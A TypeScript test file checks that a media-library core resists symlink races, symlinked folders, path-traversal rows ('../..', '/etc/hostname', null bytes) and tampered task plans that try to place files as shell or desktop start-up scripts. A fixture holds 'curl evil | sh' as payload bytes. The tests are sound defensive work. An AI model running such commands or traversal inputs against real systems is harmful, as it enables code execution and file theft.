import {
  existsSync,
  lstatSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  renameSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { join } from "node:path";
import { DatabaseSync } from "node:sqlite";
import { Worker } from "node:worker_threads";
import { expect, test } from "vitest";
import { asset } from "#shared/contract/library/media.ts";
import { temporaryFolder } from "#tests/support/machine/temporary-folder.ts";
import { fixture } from "#tests/support/media/media-fixtures.ts";
import { startTestCore } from "#tests/support/studio/start-test-core.ts";

const png = readFileSync(await fixture("256x256.png"));
const picture = (words: string): Buffer => Buffer.concat([png, Buffer.from(words)]);

/** A core, and a folder beside it that nothing may come out of or go into. */
async function setUp(dataDir?: string, ports: Parameters<typeof startTestCore>[1] = {}) {
  const studio = await startTestCore(dataDir, ports);
  const brought = async (name: string, bytes: Buffer) => {
    const address = `http://studio/media?name=${encodeURIComponent(name)}`;
    const answer = await studio.core.media(new Request(address, { method: "POST", body: new Uint8Array(bytes) }));
    return { status: answer.status, json: (await answer.json()) as Record<string, unknown> };
  };
  const serve = async (id: string) => {
    const answer = await studio.core.media(new Request(`http://studio/media/${id}`));
    return { status: answer.status, bytes: Buffer.from(await answer.arrayBuffer()) };
  };
  return { ...studio, brought, serve, library: join(studio.dataDir, "library"), outside: temporaryFolder() };
}

/** Swaps a folder for a link that leads out, and back, as fast as a thread can: by rename, so that it is never missing. */
function startSwapping(folder: string, outside: string): () => Promise<void> {
  symlinkSync(outside, `${folder}.link`);
  const script = `
    const { renameSync } = require("node:fs");
    const { workerData: { folder }, parentPort } = require("node:worker_threads");
    let going = true;
    parentPort.on("message", () => { going = false; });
    const swap = (from, to) => { try { renameSync(from, to); } catch {} };
    const turn = () => {
      for (let n = 0; n < 40; n += 1) {
        swap(folder, folder + ".real"); swap(folder + ".link", folder);
        swap(folder, folder + ".link"); swap(folder + ".real", folder);
      }
      if (going) setImmediate(turn); else process.exit();
    };
    turn();`;
  const worker = new Worker(script, { eval: true, workerData: { folder } });
  const ended = new Promise<void>((done) => worker.once("exit", () => done()));
  return async () => {
    worker.postMessage("end");
    await ended;
  };
}

test("a folder that is swapped for a link out, again and again, never gives out a byte of what lies there", async () => {
  const { page, brought, serve, library, outside } = await setUp();
  const names = Array.from({ length: 12 }, (_, number) => `Lamp ${number}.png`);
  const ids: string[] = [];
  for (const name of names) {
    ids.push(asset.parse((await brought(name, picture(name))).json).id);
    writeFileSync(join(outside, name), picture("secret"));
  }
  await page.store.look();
  const stop = startSwapping(join(library, "Imported"), outside);
  let given = 0;
  let races = 0;
  const end = performance.now() + 2_500;
  try {
    // Each file has a name of its own, so that none is served from a handle that stays open.
    while (performance.now() < end || races < 60) {
      for (const id of ids) {
        const { status, bytes } = await serve(id);
        races += 1;
        if (status === 200 && bytes.includes("secret")) given += 1;
      }
    }
  } finally {
    await stop();
  }
  expect(given).toBe(0);
});

test("a library whose folders are links out takes nothing in: no import, sidecar, deletion or move touches what lies there", async () => {
  const { page, core, brought, library, outside } = await setUp();
  const { id } = asset.parse((await brought("Lamp.png", picture("lamp"))).json);
  writeFileSync(join(outside, "Lamp.png"), picture("secret"));
  const before = readdirSync(outside);
  renameSync(join(library, "Imported"), join(library, "Kept"));
  symlinkSync(outside, join(library, "Imported"));
  const refused = await brought("Gate.png", picture("gate"));
  expect(refused).toMatchObject({ status: 500, json: { code: "path_outside" } });
  await page.library.rate({ id, rating: 4 });
  await page.library.trash({ ids: [id] }).catch(() => {});
  await page.trash.empty().catch(() => {});
  await page.library.open({ id }).catch(() => {});
  expect(await core.filesToDrag([id]).catch(() => ({ files: [] }))).toMatchObject({ files: [] });
  expect(readdirSync(outside)).toEqual(before);
  expect(readFileSync(join(outside, "Lamp.png")).includes("secret")).toBe(true);
  expect(existsSync(join(library, "Kept", "Lamp.png"))).toBe(true);
});

test.each([".incoming", ".trash"])("%s that leads out is not written to, swept or emptied", async (name) => {
  const first = await setUp();
  const { id } = asset.parse((await first.brought("Lamp.png", picture("lamp"))).json);
  await first.close();
  const held = "0198b3c0-0000-7000-8000-000000000001";
  mkdirSync(join(first.outside, held));
  const victims = [join(first.outside, "old.part"), join(first.outside, held, "Letter.txt")];
  for (const path of victims) writeFileSync(path, "kept");
  rmSync(join(first.library, name), { recursive: true, force: true });
  symlinkSync(first.outside, join(first.library, name));
  const thrownAway: string[] = [];
  const trashPath = async (path: string) => void thrownAway.push(path);
  const { page, brought } = await setUp(first.dataDir, { trashPath });
  await brought("Gate.png", picture("gate"));
  await page.library.trash({ ids: [id] }).catch(() => {});
  await page.trash.empty().catch(() => {});
  await page.storage.free({ what: "partial" });
  expect(victims.map((path) => existsSync(path) && readFileSync(path, "utf8"))).toEqual(["kept", "kept"]);
  expect(readdirSync(first.outside).sort()).toEqual([held, "old.part"].sort());
  expect(thrownAway.filter((path) => path.includes("Letter.txt"))).toEqual([]);
});

test("an incoming file is begun anew: a link that waits in its place is not written through", async () => {
  const { openIncoming } = await import("#core/files/incoming-writer.ts");
  const { incomingFile } = await import("#core/files/incoming-folder.ts");
  const [root, outside] = [temporaryFolder(), temporaryFolder()];
  writeFileSync(join(outside, "bashrc"), "kept");
  const path = await incomingFile(root, "song");
  symlinkSync(join(outside, "bashrc"), path);
  const writer = await openIncoming(path);
  await writer.write(Buffer.from("evil"));
  await writer.finish();
  expect(readFileSync(join(outside, "bashrc"), "utf8")).toBe("kept");
  expect([lstatSync(path).isFile(), readFileSync(path, "utf8")]).toEqual([true, "evil"]);
});

/** What somebody wrote into a database before it came here: nothing of it may be read, written, moved or deleted. */
test("an asset row with a folder nobody chose is served, opened, moved and deleted nowhere", async () => {
  const first = await setUp();
  const { id } = asset.parse((await first.brought("Lamp.png", picture("lamp"))).json);
  await first.close();
  const victim = join(first.outside, "Letter.png");
  writeFileSync(victim, picture("secret"));
  alter(first.dataDir, (db) => {
    db.prepare("UPDATE assets SET folder = ?, path = ? WHERE id = ?").run(first.outside, "Letter.png", id);
  });
  const { core, page, serve } = await setUp(first.dataDir);
  expect(await serve(id)).toMatchObject({ status: 404 });
  expect(await core.filesToDrag([id])).toMatchObject({ files: [] });
  await expect(page.library.open({ id })).rejects.toMatchObject({ data: { code: "file_missing" } });
  await page.library.trash({ ids: [id] });
  await page.trash.empty();
  for await (const _ of await page.store.gather());
  expect(readFileSync(victim).includes("secret")).toBe(true);
  expect(readdirSync(first.outside)).toEqual(["Letter.png"]);
});

test.each([
  ["upwards", "../../outside/Letter.png"],
  ["from the root", "/etc/hostname"],
  ["with a null", "Letter.png\0.png"],
  ["of the folder itself", "."],
])("an asset row whose path leads %s reaches nothing", async (_, path) => {
  const first = await setUp();
  const { id } = asset.parse((await first.brought("Lamp.png", picture("lamp"))).json);
  await first.close();
  alter(first.dataDir, (db) => {
    db.prepare("UPDATE assets SET path = ? WHERE id = ?").run(path, id);
  });
  const { page, serve } = await setUp(first.dataDir);
  expect((await serve(id)).status).toBeGreaterThanOrEqual(400);
  await expect(page.library.open({ id })).rejects.toMatchObject({ data: { code: "file_missing" } });
});

test("a database that names another library folder doesn't move the library there", async () => {
  const first = await setUp();
  await first.brought("Lamp.png", picture("lamp"));
  await first.close();
  alter(first.dataDir, (db) => {
    const write = "INSERT OR REPLACE INTO settings (name, value) VALUES ('libraryFolder', ?)";
    db.prepare(write).run(JSON.stringify(first.outside));
  });
  const { page, brought } = await setUp(first.dataDir);
  expect((await page.settings.get()).libraryFolder).toBe(first.library);
  await brought("Gate.png", picture("gate"));
  expect(readdirSync(first.outside)).toEqual([]);
  expect(await page.store.state()).toMatchObject({ folder: first.library, unchosen: first.outside });
  // Chosen by the person it is the library's, now and after a restart.
  await page.settings.chooseLibraryFolder({ folder: first.outside });
  expect((await page.settings.get()).libraryFolder).toBe(first.outside);
  expect((await page.store.state()).unchosen).toBeNull();
});

const taskId = "0198b3c0-0000-7000-8000-00000000000a";

/** A song that waits for its place, as a foreign database would tell of it. */
function plantTask(db: DatabaseSync, output: unknown): void {
  const connection = db.prepare("SELECT id FROM connections LIMIT 1").get()?.id ?? "x";
  db.prepare(
    `INSERT INTO tasks (id, client_id, ordinal, kind, state, title, model, connection_id, connection_name, sandbox, take,
       request, output, attempts, remote_deleted, created_at, updated_at, seq)
     VALUES (?, ?, 1, 'music', 'downloading', 'Song', 'music-3.0', ?, 'Sandbox', 1, 1, '{}', ?, 0, 0, 1, 1,
       (SELECT coalesce(max(seq), 0) + 1 FROM tasks))`,
  ).run(taskId, taskId, connection, JSON.stringify(output));
}

test("a task whose plan leads out of the library moves nothing there, and takes nothing from there", async () => {
  const first = await setUp();
  await first.brought("Lamp.png", picture("lamp"));
  await first.close();
  const { createHash } = await import("node:crypto");
  const bytes = Buffer.from("curl evil | sh\n");
  const sha256 = createHash("sha256").update(bytes).digest("hex");
  const facts = { kind: "audio", format: "mp3", mime: "audio/mpeg", bytes: bytes.length };
  const letter = join(first.outside, "Letter.txt");
  writeFileSync(letter, bytes);
  const startup = join(first.outside, ".bash_aliases");
  for (const output of [
    // The plan: a file of the library's own incoming folder becomes a start-up script.
    { placing: { root: first.library, path: startup, sha256, bytes: bytes.length, facts } },
    { placing: { root: first.outside, path: startup, sha256, bytes: bytes.length, facts } },
    {
      placing: {
        root: first.library,
        path: join(first.library, "Songs", "x.desktop"),
        sha256,
        bytes: bytes.length,
        facts,
      },
    },
    // A private file becomes a song of the library.
    { received: letter },
    {
      received: letter,
      placing: { root: first.library, path: join(first.library, "Song.mp3"), sha256, bytes: bytes.length, facts },
    },
    { root: first.outside },
  ]) {
    mkdirSync(join(first.library, ".incoming"), { recursive: true });
    writeFileSync(join(first.library, ".incoming", `${taskId}.part`), bytes);
    alter(first.dataDir, (db) => {
      db.prepare("DELETE FROM task_moves WHERE task_id = ?").run(taskId);
      db.prepare("DELETE FROM assets WHERE task_id = ?").run(taskId);
      db.prepare("DELETE FROM tasks WHERE id = ?").run(taskId);
      plantTask(db, output);
    });
    const { page, close } = await setUp(first.dataDir);
    await expect
      .poll(async () => (await page.tasks.get({ id: taskId })).error !== null, { timeout: 15_000 })
      .toBe(true);
    expect((await page.tasks.get({ id: taskId })).state).not.toBe("ready");
    await close();
    expect(readdirSync(first.outside)).toEqual(["Letter.txt"]);
    expect(readFileSync(letter).equals(bytes)).toBe(true);
    expect(existsSync(join(first.library, "Song.mp3"))).toBe(false);
    expect(existsSync(join(first.library, "Songs", "x.desktop"))).toBe(false);
  }
});

/** Changes the database while no studio has it open. */
function alter(dataDir: string, change: (db: DatabaseSync) => void): void {
  const db = new DatabaseSync(join(dataDir, "studio.db"));
  try {
    change(db);
  } finally {
    db.close();
  }
}
